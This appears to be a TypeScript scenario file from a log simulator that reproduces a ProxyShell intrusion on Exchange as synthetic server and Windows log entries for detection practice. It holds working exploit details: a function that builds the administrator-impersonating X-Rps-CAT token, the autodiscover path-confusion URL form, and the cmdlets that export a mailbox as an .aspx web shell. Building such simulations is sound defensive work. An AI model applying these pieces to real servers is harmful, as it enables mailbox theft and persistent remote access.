/* ProxyShell (CVE-2021-34473, 34523, 31207) as it shows in the logs.
 *
 * autodiscover.json is asked with an address in the query that moves the path confusion to MAPI, EWS and
 * remote PowerShell; `X-Rps-CAT` carries a token that names the impersonated administrator. Through
 * PowerShell a role is taken, a mailbox is exported to a local UNC path that ends in .aspx, and the request
 * removed. The replication service writes the file. */

import type {Mark} from "../line.ts"
import {rpsCmdletRow, rpsHttpRow} from "../logs/backend.ts"
import {cmdletEvent, fileCreated, standing} from "../logs/windows.ts"
import {request} from "../request.ts"
import type {Scene} from "../scene.ts"
import {outsideAddress} from "../server.ts"
import {hourMillis} from "../stamps.ts"
import {firstCall, lookAround, type Shell, takeData, useShell} from "./host.ts"
import type {Expected, Scenario} from "./scenario.ts"

/** The token that remote PowerShell takes: tagged fields with lengths, base64. Names who is meant. */
export function accessToken(login: string, sid: string): string {
  const field = (tag: string, text: string): Buffer =>
    Buffer.concat([Buffer.from(tag), Buffer.from([text.length]), Buffer.from(text)])
  return Buffer.concat([
    Buffer.from([0x56, 1, 0]),
    field("T", "Windows"),
    Buffer.from([0x43, 0]),
    field("A", "Kerberos"),
    field("L", login),
    field("U", sid),
    Buffer.from([0x47, 1, 0, 0, 0, 7, 0, 0, 0]),
    Buffer.from([12]),
    Buffer.from("S-1-5-32-544"),
    Buffer.from([0x45, 0, 0, 0, 0]),
  ]).toString("base64")
}

function play(scene: Scene, from: number, until: number, outcome: string): void {
  const {server, random} = scene
  const client = outsideAddress(random)
  const agent = random.chance(0.5)
    ? "python-requests/2.26.0"
    : "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0.4430.93 Safari/537.36"
  const decoy = `${random.word(6).toLowerCase()}.example`
  const victim = server.administrators[0]!
  const token = encodeURIComponent(accessToken(victim.login, victim.sid))
  const tail = `Email=autodiscover/autodiscover.json%3F@${decoy}`
  const exploited = (step: string): Mark => ({step, stage: "exploited"})
  let now = from + Math.floor((until - from) * (0.3 + random.unit() * 0.15))
  const step = (): number => (now += random.between(300, 2500))

  const confused = (method: string, path: string, query: string, status: number, mark: Mark): string => {
    const asked = `@${decoy}${path}?${query === "" ? "" : `${query}`}&${tail}`
    const r = request(scene, {
      at: step(),
      took: random.between(20, 400),
      protocol: "Autodiscover",
      method,
      host: server.address,
      stem: "/autodiscover/autodiscover.json",
      query: asked,
      agent,
      client,
      status,
      anchor: `autodiscover/autodiscover.json?@${decoy}`,
      hint: "ExplicitLogon-SMTP",
      sent: random.between(0, 3000),
      received: random.between(200, 6000),
      back: {stem: path, query, user: server.machine, status},
      mark,
    })
    return r.id
  }
  confused("GET", "/mapi/nspi/", "", 200, {step: "path-confusion-test", stage: "probed"})
  confused("POST", "/EWS/exchange.asmx", "", 200, exploited("list-mailboxes"))
  confused("POST", "/autodiscover/autodiscover.xml", "", 200, exploited("legacy-dn"))
  confused("POST", "/mapi/emsmdb/", "", 200, exploited("sid-from-mapi"))
  const rps = (mark: Mark): void => {
    const query = `X-Rps-CAT=${token}`
    const id = confused("POST", "/powershell/", query, 200, mark)
    rpsHttpRow(scene, now + 2, id, "/powershell/", query, victim.account, victim.sid, agent, mark)
  }
  for (let i = 0; i < 4; i++) rps(exploited("remote-powershell"))

  const name = `${random.word(random.between(6, 10)).toLowerCase()}.aspx`
  const isAspNetClient = random.chance(0.5)
  const stem = isAspNetClient ? `/aspnet_client/${name}` : `/owa/auth/${name}`
  const file = isAspNetClient
    ? `C:\\inetpub\\wwwroot\\aspnet_client\\${name}`
    : `${server.installPath}FrontEnd\\HttpProxy\\owa\\auth\\${name}`
  const target = `\\\\127.0.0.1\\c$${file.slice(2)}`
  const caller = {
    canonical: `${server.directory}/Users/${victim.login}`,
    sid: victim.sid,
    host: "Remote-ManagementShell-Unknown",
    process: `${server.pools.powershell} w3wp#MSExchangePowerShellAppPool`,
  }
  const cmdlet = (text: string, parameters: string, mark: Mark): void => {
    rps(mark)
    rpsCmdletRow(scene, {
      at: now + 80,
      cmdlet: text,
      parameters,
      account: victim.login,
      sid: victim.sid,
      application: "Unknown",
      failure: "",
      mark,
    })
    cmdletEvent(scene, now + 90, text, parameters, caller, "", mark)
  }
  cmdlet(
    "New-ManagementRoleAssignment",
    `-Role "Mailbox Import Export" -User "${victim.email}"`,
    exploited("take-role"),
  )
  now += 3000
  cmdlet(
    "New-MailboxExportRequest",
    `-Mailbox "${victim.email}" -IncludeFolders ("#Drafts#") -ContentFilter "(Subject -eq '${random.hex(8)}')" -ExcludeDumpster "True" -FilePath "${target}"`,
    exploited("export-to-aspx"),
  )
  const replication = standing(
    scene,
    `${server.installPath}Bin\\MSExchangeMailboxReplication.exe`,
    `"${server.installPath}Bin\\MSExchangeMailboxReplication.exe"`,
    random.between(3000, 9000),
  )
  fileCreated(scene, now + 9000, replication, file, {step: "shell-written", stage: "persisted"})
  now += 12_000
  cmdlet(
    "Remove-MailboxExportRequest",
    `-Identity "${victim.email}\\MailboxExport" -Confirm "False"`,
    exploited("remove-export-request"),
  )

  const shell: Shell = {
    stem,
    file,
    client,
    agent,
    pool: isAspNetClient ? "DefaultAppPool" : "MSExchangeOWAAppPool",
    poolId: isAspNetClient ? server.pools.frontend : server.pools.owa,
  }
  now += 3000
  firstCall(scene, now, shell)
  if (outcome === "exploited") return
  now += Math.floor((0.3 + random.unit()) * Math.min(10 * hourMillis, (until - now) / 5))
  now = useShell(scene, now, shell, lookAround).now
  if (outcome === "theft") takeData(scene, now + 90_000, shell)
}

const expected = (acted: Expected["acted"], taken: Expected["data taken"]): Expected => ({
  probed: "confirmed",
  exploited: "confirmed",
  persisted: "confirmed",
  acted,
  "data taken": taken,
})

export const proxyShell: Scenario = {
  name: "proxyshell",
  says: "ProxyShell from path confusion to the exported web shell, then its use",
  start: "2021-08-16",
  // CU19 without the updates of April and May 2021.
  build: "15.1.2176.9",
  outcomes: [
    {
      name: "used",
      says: "shell written and used for a look around",
      expected: expected("confirmed", "none seen"),
    },
    {
      name: "theft",
      says: "shell used, credentials dumped, mail packed and fetched",
      expected: expected("confirmed", "succeeded"),
    },
    {name: "exploited", says: "shell written and called once", expected: expected("none seen", "none seen")},
  ],
  play,
}
